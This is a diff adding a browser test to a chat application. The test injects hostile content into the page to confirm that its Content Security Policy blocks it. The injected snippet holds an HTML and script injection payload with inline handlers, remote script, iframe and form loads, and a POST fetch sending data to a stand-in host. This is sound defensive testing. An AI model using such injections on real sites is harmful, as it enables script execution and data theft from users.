@@ -133,3 +133,48 @@ test("200 texts that would act are read as texts, wherever the page shows them",
   expect(visited.filter((address) => !address.startsWith(`${url}/#/sessions/batch`))).toEqual([]);
   expect(problems).toEqual([]);
 });
+
+/** What somebody would have got onto the page after all, as far as a page can be asked to do it itself. */
+const SLIPPED = `(async () => {
+  const refused = [];
+  document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => refused.push(effectiveDirective));
+  const holder = document.createElement("div");
+  document.body.append(holder);
+  holder.innerHTML =
+    '<img src="http://away.invalid/pixel.png"><button onclick="window.ran = 1">x</button><p style="color: red">x</p>' +
+    '<iframe src="http://away.invalid/"></iframe><form action="http://away.invalid/"><button type="submit">y</button></form>';
+  holder.querySelector("button").click();
+  holder.querySelector("form button").click();
+  const script = document.createElement("script");
+  script.textContent = "window.ran = 1";
+  holder.append(script);
+  const other = document.createElement("script");
+  other.src = "http://away.invalid/script.js";
+  holder.append(other);
+  await fetch("http://away.invalid/", { method: "POST", body: "words" }).catch(() => undefined);
+  await new Promise((resolve) => setTimeout(resolve, 200));
+  holder.remove();
+  return { ran: window.ran, refused: [...new Set(refused)].sort() };
+})()`;
+
+test("what slipped through all of this would still be stopped by the page's policy", async () => {
+  await using chat = await startChat({ script: [], page, store: "memory:" });
+  await using opened = await openPage(browser, { url: chat.server.url });
+  const { page: shown } = opened;
+  const answered: string[] = [];
+  shown.on("response", (response) => answered.push(new URL(response.url()).origin));
+  await shown.locator(".door").first().waitFor();
+  expect(await shown.evaluate(SLIPPED)).toEqual({
+    ran: undefined,
+    refused: [
+      "connect-src",
+      "form-action",
+      "frame-src",
+      "img-src",
+      "script-src-attr",
+      "script-src-elem",
+      "style-src-attr",
+    ],
+  });
+  expect(answered.filter((origin) => origin !== chat.server.url)).toEqual([]);
+});
